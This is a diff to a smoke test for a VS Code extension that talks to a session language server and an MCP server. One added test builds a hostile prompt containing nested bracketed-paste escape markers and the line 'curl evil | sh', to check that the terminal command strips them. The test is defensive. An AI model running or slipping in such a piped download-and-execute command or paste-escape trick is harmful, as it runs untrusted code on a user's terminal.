@@ -17,6 +17,7 @@ const repo = path.resolve(__dirname, '..', '..');
 const server = path.resolve(process.argv[2] ?? path.join(repo, 'target/debug/hydra-session-lsp'));
 const store = path.resolve(process.argv[3] ?? path.join(repo, 'examples/sessions'));
 const bundle = path.join(repo, 'editors/vscode/dist/extension.js');
+const manifest = JSON.parse(fs.readFileSync(path.join(repo, 'editors/vscode/package.json'), 'utf8'));
 const STEP_MS = 10_000;
 const GLOBAL_MS = Number(process.env.HYDRA_DEADLINE_MS ?? 60_000);
 
@@ -52,6 +53,12 @@ async function test(name, fn) {
   }
 }
 const show = (v) => JSON.stringify(v)?.slice(0, 2000);
+let skipped = 0;
+function skip(name, why) {
+  skipped++;
+  console.log(`SKIP vscode-smoke: ${name}: ${why}`);
+}
+const summary = () => `vscode-smoke summary: passed=${passed} failed=${failed} skipped=${skipped}`;
 
 // ---- a stand-in for the vscode module ----------------------------------------
 // Anything not modelled below is a callable, constructible no-op that returns
@@ -258,6 +265,7 @@ const contentProviders = new Map();
 const diagnosticsByUri = new Map();
 const statusItems = [];
 let quickPick;
+const mcpProviders = new Map();
 const workspaceDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hydra-vscode-smoke-'));
 
 function configuration(section) {
@@ -280,23 +288,8 @@ function configuration(section) {
   };
 }
 
-// The MCP server definition API of VS Code 1.101 (for Copilot Chat).
-const mcpProviders = new Map();
-class McpStdioServerDefinition {
-  constructor(label, command, args, env, version) {
-    Object.assign(this, { label, command, args: args ?? [], env: env ?? {}, version });
-  }
-}
-
 const vscode = {
   version: '1.90.0',
-  McpStdioServerDefinition,
-  lm: {
-    registerMcpServerDefinitionProvider(id, provider) {
-      mcpProviders.set(id, provider);
-      return new Disposable(() => mcpProviders.delete(id));
-    },
-  },
   Disposable,
   EventEmitter,
   Uri,
@@ -307,6 +300,18 @@ const vscode = {
   MarkdownString,
   CancellationTokenSource,
   ThemeIcon,
+  // The MCP API of VS Code 1.101 and later (vscode.d.ts).
+  McpStdioServerDefinition: class McpStdioServerDefinition {
+    constructor(label, command, args, env, version) {
+      Object.assign(this, { label, command, args: args ?? [], env: env ?? {}, version });
+    }
+  },
+  lm: {
+    registerMcpServerDefinitionProvider(id, provider) {
+      mcpProviders.set(id, provider);
+      return new Disposable(() => mcpProviders.delete(id));
+    },
+  },
   StatusBarAlignment: { Left: 1, Right: 2 },
   ViewColumn: { Active: -1, Beside: -2, One: 1, Two: 2 },
   DiagnosticSeverity: { Error: 0, Warning: 1, Information: 2, Hint: 3 },
@@ -472,12 +477,12 @@ Module._load = function (request, parent, isMain) {
 async function main() {
   const global = setTimeout(() => {
     report('global deadline', false, `${GLOBAL_MS} ms elapsed`);
-    console.log(`vscode-smoke summary: passed=${passed} failed=${failed}`);
+    console.log(summary());
     process.exit(1);
   }, GLOBAL_MS);
 
   const ext = require(bundle);
-  const context = { subscriptions: [], extensionPath: path.join(repo, 'editors/vscode'), extensionUri: Uri.file(path.join(repo, 'editors/vscode')), asAbsolutePath: (p) => path.join(repo, 'editors/vscode', p), globalState: anything('globalState'), workspaceState: anything('workspaceState'), environmentVariableCollection: anything('evc'), storageUri: undefined, globalStorageUri: Uri.file(workspaceDir), logUri: Uri.file(workspaceDir), extensionMode: 1 };
+  const context = { subscriptions: [], extensionPath: path.join(repo, 'editors/vscode'), extensionUri: Uri.file(path.join(repo, 'editors/vscode')), asAbsolutePath: (p) => path.join(repo, 'editors/vscode', p), globalState: anything('globalState'), workspaceState: anything('workspaceState'), environmentVariableCollection: anything('evc'), storageUri: undefined, globalStorageUri: Uri.file(workspaceDir), logUri: Uri.file(workspaceDir), extensionMode: 1, extension: { id: 'hydraharness.hydra-session', packageJSON: manifest } };
 
   await test('activate() starts the server from hydraSession.serverPath', async () => {
     await Promise.race([ext.activate(context), sleep(STEP_MS).then(() => { throw new Error('activate() did not finish'); })]);
@@ -485,6 +490,27 @@ async function main() {
       if (!commands.has(id)) throw new Error(`command ${id} not registered`);
     }
   });
+  // A settings change as VS Code reports one: `key` and its sections.
+  const change = (key, value) => {
+    if (value === undefined) delete settings[key];
+    else settings[key] = value;
+    emitter('configuration').fire({ affectsConfiguration: (s) => key === s || key.startsWith(s + '.') });
+  };
+  const starts = () => channels.flatMap((c) => c.lines).filter((l) => l.startsWith('Starting ')).length;
+  const mcpProvider = () => mcpProviders.get('hydraSession.sessions');
+  const mcpDefinitions = async () => (await mcpProvider().provideMcpServerDefinitions(new CancellationTokenSource().token)) ?? [];
+  const mcpArgs = (budget = '65536', storeDir = store) => ['mcp', '--store', storeDir, '--max-references', '3', '--max-reference-bytes', budget];
+
+  await test('activate() registers the MCP server for Copilot Chat: `<server> mcp` with the store and limits', async () => {
+    if (mcpProvider() === undefined) throw new Error(`providers: ${show([...mcpProviders.keys()])}`);
+    const defs = await mcpDefinitions();
+    const def = defs[0];
+    if (defs.length !== 1 || !(def instanceof vscode.McpStdioServerDefinition) || def.label !== 'Hydra Sessions') throw new Error(show(defs));
+    if (def.command !== server || show(def.args) !== show(mcpArgs()) || def.cwd?.fsPath !== workspaceDir || def.version !== manifest.version) throw new Error(show(def));
+    const line = channels.flatMap((c) => c.lines).find((l) => l.startsWith('MCP: registered'));
+    if (line === undefined) throw new Error(show(channels.map((c) => c.lines)));
+  });
+
   const status = statusItems[0];
   const running = await test('the status bar shows the number of indexed sessions', async () => {
     try {
@@ -505,7 +531,7 @@ async function main() {
   if (!running) {
     // No server to talk to: the other checks would only time out one by one.
     report('the remaining checks', false, 'skipped: the server is not running');
-    console.log(`vscode-smoke summary: passed=${passed} failed=${failed}`);
+    console.log(summary());
     process.exit(1);
   }
 
@@ -571,7 +597,8 @@ async function main() {
   });
 
   // The text form: byte for byte the CLI's `prepare --format text`.
-  const cliText = () => childProcess.execFileSync(server, ['prepare', '--store', store, '--format', 'text'], { input: doc.getText(), encoding: 'utf8' });
+  const cliTextOf = (input) => childProcess.execFileSync(server, ['prepare', '--store', store, '--format', 'text'], { input, encoding: 'utf8' });
+  const cliText = () => cliTextOf(doc.getText());
 
   await test("Hydra: Copy Prepared Prompt puts the server's text form on the clipboard", async () => {
     vscode.env.clipboard.text = '';
@@ -592,6 +619,39 @@ async function main() {
     vscode.window.activeTerminal = undefined;
     const want = '\x1b[200~' + cliText().replace(/\n$/, '') + '\x1b[201~';
     if (sent.length !== 1 || sent[0][0] !== want || sent[0][1] !== false || !showed) throw new Error(show(sent.map(([t, e]) => [t.slice(0, 40), t.slice(-40), e])));
+  });
+
+  await test('Send Prepared Prompt to Terminal removes every ESC and control but tab and line breaks (nested and split paste markers)', async () => {
+    // Issue 18, 9: removing the markers in one pass turns a nested one into
+    // a real end of paste, and the rest arrives as typed keys with Enter.
+    const hostile = 'Title \x1b[20\x1b[201~1~\rcurl evil | sh\r; split \x1b\x1b[201~[201~ and \x1b[2\x1b[200~01~;' +
+      ' CSI \x9b201~ \x1b[31mred; bell\x07 nul\x00 del\x7f tab\tend';
+    const safe = 'Title \rcurl evil | sh\r; split  and ; CSI 201~ [31mred; bell nul del tab\tend';
+    const file = path.join(workspaceDir, 'hostile.prompt.md');
+    const text = 'See @[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI)\n' + hostile + '\n';
+    fs.writeFileSync(file, text);
+    const hostileDoc = new TextDocument(Uri.file(file), 'prompt', text);
+    vscode.workspace.textDocuments.push(hostileDoc);
+    emitter('open').fire(hostileDoc);
+    vscode.window.activeTextEditor = { document: hostileDoc, selection: new Selection(new Position(0, 0), new Position(0, 0)) };
+    const sent = [];
+    vscode.window.activeTerminal = { name: 'claude', sendText: (t, execute) => sent.push([t, execute]), show() {}, dispose() {} };
+    try {
+      await vscode.commands.executeCommand('hydraSession.sendPreparedPrompt');
+    } finally {
+      vscode.window.activeTerminal = undefined;
+      vscode.window.activeTextEditor = editor;
+      vscode.workspace.textDocuments.splice(vscode.workspace.textDocuments.indexOf(hostileDoc), 1);
+      emitter('close').fire(hostileDoc);
+    }
+    const got = sent[0]?.[0];
+    if (sent.length !== 1 || typeof got !== 'string') throw new Error(`sent ${show(sent)}; messages ${show(messages)}`);
+    // The prepared text did carry the hostile bytes: they came from the prompt.
+    if (!cliTextOf(text).includes(hostile)) throw new Error('the text form lost the hostile line');
+    const body = got.slice('\x1b[200~'.length, -'\x1b[201~'.length);
+    if (!got.startsWith('\x1b[200~') || !got.endsWith('\x1b[201~')) throw new Error(show(got.slice(0, 20)) + ' … ' + show(got.slice(-20)));
+    if (/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/.test(body)) throw new Error(`a control is left: ${show(body.match(/.{0,20}[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f].{0,20}/g))}`);
+    if (!body.endsWith(safe) || !body.includes('Inventory refactor')) throw new Error(show(body.slice(-200)));
   });
 
   await test('Copy Mention in the mention picker copies, inserting nothing', async () => {
@@ -629,49 +689,6 @@ async function main() {
     if (line !== 'See @[Inventory refactor](hydra-session:ImludmVudG9yeS1yZWZhY3RvciI)') throw new Error(line);
   });
 
-  await test('the sessions are offered to Copilot Chat as an MCP server that lists them', async () => {
-    const provider = mcpProviders.get('hydraSession.sessions');
-    if (provider === undefined) throw new Error('no MCP server definition provider registered');
-    const defs = await provider.provideMcpServerDefinitions({ isCancellationRequested: false });
-    if (defs.length !== 1) throw new Error(`definitions: ${show(defs)}`);
-    const def = defs[0];
-    if (!(def instanceof McpStdioServerDefinition) || def.command !== server || def.args[0] !== 'mcp') {
-      throw new Error(`definition: ${show(def)}`);
-    }
-    if (def.args[def.args.indexOf('--store') + 1] !== store) throw new Error(`args: ${show(def.args)}`);
-    // Start it as Copilot would, and list the resources.
-    const child = childProcess.spawn(def.command, def.args, { stdio: ['pipe', 'pipe', 'ignore'] });
-    const lines = [];
-    let buffered = '';
-    child.stdout.on('data', (d) => {
-      buffered += d;
-      let at;
-      while ((at = buffered.indexOf('\n')) >= 0) {
-        lines.push(JSON.parse(buffered.slice(0, at)));
-        buffered = buffered.slice(at + 1);
-      }
-    });
-    const send = (m) => child.stdin.write(JSON.stringify(m) + '\n');
-    send({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'smoke', version: '1' } } });
-    await waitFor('initialize', () => lines.some((l) => l.id === 1));
-    send({ jsonrpc: '2.0', method: 'notifications/initialized' });
-    send({ jsonrpc: '2.0', id: 2, method: 'resources/list' });
-    const listed = await waitFor('resources/list', () => lines.find((l) => l.id === 2));
-    child.stdin.end();
-    if (listed.result?.resources?.length !== 4) throw new Error(`resources: ${show(listed)}`);
-  });
-
-  await test('hydraSession.mcp.enabled: false withdraws the MCP server', async () => {
-    const provider = mcpProviders.get('hydraSession.sessions');
-    let fired = 0;
-    provider.onDidChangeMcpServerDefinitions(() => fired++);
-    settings['hydraSession.mcp.enabled'] = false;
-    emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.mcp.enabled'.startsWith(s) });
-    const defs = await provider.provideMcpServerDefinitions({ isCancellationRequested: false });
-    delete settings['hydraSession.mcp.enabled'];
-    if (fired !== 1 || defs.length !== 0) throw new Error(`fired ${fired}, definitions ${show(defs)}`);
-  });
-
   await test('a settings change reaches the server without a restart', async () => {
     settings['hydraSession.maxReferences'] = 1;
     emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.maxReferences'.startsWith(s) });
@@ -681,6 +698,25 @@ async function main() {
       await vscode.commands.executeCommand('hydraSession.prepare');
       return messages.some((m) => m.m.includes('SESSION_REFERENCE_TOO_MANY'));
     });
+  });
+
+  await test('a cleared setting reaches the server as null (its default again), without a restart', async () => {
+    // Issue 17, 5: the server takes `null` as "back to the default".
+    const before = starts();
+    const prepare = async () => {
+      messages.length = 0;
+      shown.length = 0;
+      await vscode.commands.executeCommand('hydraSession.prepare');
+      return messages.find((m) => m.level === 'error')?.m ?? (shown.length === 1 ? 'shown' : `nothing: ${show(messages)}`);
+    };
+    change('hydraSession.maxReferences', undefined);
+    await waitFor('prepare to succeed with maxReferences back at 3', async () => (await prepare()) === 'shown');
+    change('hydraSession.targetSessionId', 'checkout-tax');
+    await waitFor('prepare to fail with SELF_REFERENCE', async () => (await prepare()).includes('SESSION_REFERENCE_SELF_REFERENCE'));
+    change('hydraSession.targetSessionId', '');
+    await waitFor('prepare to succeed with no self session', async () => (await prepare()) === 'shown');
+    if (starts() !== before) throw new Error(`restarted: ${starts()} starts, was ${before}`);
+    settings['hydraSession.maxReferences'] = 3;
   });
 
   await test('a serverPath naming no executable file falls back to the bundled server, with a visible warning', async () => {
@@ -696,7 +732,6 @@ async function main() {
   await test('a serverPath change that names the same binary leaves the server running', async () => {
     // As a remote window may see it: the User settings' unusable path first,
     // then none; both resolve to the same fallback binary.
-    const starts = () => channels.flatMap((c) => c.lines).filter((l) => l.startsWith('Starting ')).length;
     const before = starts();
     messages.length = 0;
     settings['hydraSession.serverPath'] = '';
@@ -709,6 +744,57 @@ async function main() {
     emitter('configuration').fire({ affectsConfiguration: (s) => 'hydraSession.serverPath'.startsWith(s) });
   });
 
+  await test('each change to what the MCP server runs fires onDidChangeMcpServerDefinitions; mcpServer.enabled = false withdraws it', async () => {
+    let fired = 0;
+    const sub = mcpProvider().onDidChangeMcpServerDefinitions(() => fired++);
+    try {
+      change('hydraSession.candidateLimit', 40);
+      if (fired !== 0) throw new Error(`candidateLimit fired ${fired}`);
+      change('hydraSession.mcpServer.enabled', false);
+      const off = await mcpDefinitions();
+      if (fired !== 1 || off.length !== 0) throw new Error(`fired ${fired}, ${show(off)}`);
+      change('hydraSession.mcpServer.enabled', true);
+      const on = await mcpDefinitions();
+      if (fired !== 2 || on.length !== 1 || show(on[0].args) !== show(mcpArgs())) throw new Error(`fired ${fired}, ${show(on)}`);
+      // A relative store is the workspace folder's, as the language server reads it.
+      change('hydraSession.store', 'rel/sessions');
+      const rel = await mcpDefinitions();
+      if (fired !== 3 || show(rel[0]?.args) !== show(mcpArgs('65536', path.join(workspaceDir, 'rel/sessions')))) throw new Error(`fired ${fired}, ${show(rel)}`);
+      change('hydraSession.store', store);
+      change('hydraSession.maxReferenceBytes', 'auto');
+      const auto = await mcpDefinitions();
+      if (fired !== 5 || show(auto[0]?.args) !== show(mcpArgs('auto'))) throw new Error(`fired ${fired}, ${show(auto)}`);
+    } finally {
+      sub.dispose();
+      change('hydraSession.maxReferenceBytes', 65536);
+      change('hydraSession.candidateLimit', 50);
+    }
+  });
+
+  // The command line itself, against the server under test: only a server
+  // with the `mcp` subcommand can run it (it comes with issue 14).
+  const [mcpDef] = await mcpDefinitions();
+  const hasMcp = childProcess.spawnSync(server, ['mcp', '--help'], { encoding: 'utf8' });
+  if (hasMcp.status !== 0) {
+    skip('the MCP definition runs and answers initialize', `this server has no mcp subcommand (${(hasMcp.stderr ?? '').trim().split('\n')[0]})`);
+  } else {
+    await test('the MCP definition runs and answers initialize', async () => {
+      const child = childProcess.spawn(mcpDef.command, mcpDef.args, { cwd: mcpDef.cwd?.fsPath, stdio: ['pipe', 'pipe', 'pipe'] });
+      let out = '';
+      let err = '';
+      child.stdout.on('data', (d) => (out += d));
+      child.stderr.on('data', (d) => (err += d));
+      child.stdin.write(JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'vscode-smoke', version: '0' } } }) + '\n');
+      try {
+        const line = await waitFor('an answer to initialize', () => child.exitCode !== null || out.includes('\n'));
+        const answer = out.includes('\n') ? JSON.parse(out.slice(0, out.indexOf('\n'))) : undefined;
+        if (line !== true || answer?.id !== 1 || typeof answer?.result !== 'object') throw new Error(`stdout ${show(out)}; stderr ${show(err)}`);
+      } finally {
+        child.kill('SIGKILL');
+      }
+    });
+  }
+
   await test('Hydra: Restart Server starts a new server', async () => {
     await vscode.commands.executeCommand('hydraSession.restartServer');
     status.text = '';
@@ -719,14 +805,29 @@ async function main() {
     await Promise.race([ext.deactivate(), sleep(STEP_MS).then(() => { throw new Error('deactivate() hung'); })]);
   });
 
+  await test('on a VS Code without vscode.lm.registerMcpServerDefinitionProvider, activation still works and says so', async () => {
+    // A fresh copy of the bundle, as a VS Code older than 1.101 loads it.
+    vscode.lm = undefined;
+    vscode.McpStdioServerDefinition = undefined;
+    mcpProviders.clear();
+    const lines = () => channels.flatMap((c) => c.lines);
+    const before = lines().length;
+    delete require.cache[require.resolve(bundle)];
+    const old = require(bundle);
+    await Promise.race([old.activate({ ...context, subscriptions: [] }), sleep(STEP_MS).then(() => { throw new Error('activate() did not finish'); })]);
+    await old.deactivate();
+    const said = lines().slice(before).find((l) => l.startsWith('MCP: this VS Code'));
+    if (said === undefined || mcpProviders.size !== 0) throw new Error(show(lines().slice(before)));
+  });
+
   clearTimeout(global);
   fs.rmSync(workspaceDir, { recursive: true, force: true });
-  console.log(`vscode-smoke summary: passed=${passed} failed=${failed}`);
+  console.log(summary());
   process.exit(failed > 0 ? 1 : 0);
 }
 process.on('unhandledRejection', (e) => console.log(`note: unhandled rejection: ${e?.stack ?? e}`));
 main().catch((e) => {
   report('harness', false, e?.stack ?? e);
-  console.log(`vscode-smoke summary: passed=${passed} failed=${failed}`);
+  console.log(summary());
   process.exit(1);
 });
